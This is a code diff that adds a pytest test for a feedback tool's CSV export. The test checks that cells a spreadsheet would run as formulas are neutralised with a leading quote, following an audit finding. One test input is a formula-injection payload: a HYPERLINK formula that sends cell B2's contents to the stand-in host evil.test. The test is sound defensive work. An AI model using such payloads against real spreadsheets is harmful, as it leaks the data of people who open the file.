@@ -122,3 +122,18 @@ def test_post_feedback_rejects_invalid_bodies_in_the_error_shape(client: TestCli
     response = client.post("/v1/feedback", json={**FEEDBACK, **change})
     assert response.status_code == 422
     assert response.json() == {"error": "invalid_request", "message": message, "status": 422}
+
+
+@pytest.mark.parametrize(
+    "comment",
+    ['=HYPERLINK("http://evil.test/?x="&B2,"Klikk")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
+)
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path, comment: str):
+    """Issue 12, finding 6: `kildesvar feedback export` wrote formula cells unchanged into a CSV made for Excel."""
+    store = FeedbackStore(tmp_path / "f.sqlite3")
+    store.record(slack_entry(question=comment, comment=comment))
+    out = io.StringIO()
+    store.export_csv(out)
+    row = dict(zip(*csv.reader(io.StringIO(out.getvalue())), strict=True))
+    assert row["comment"] == row["question"] == f"'{comment}"
+    assert row["vote"] == "1" and row["answer"] == "Et program [1]."
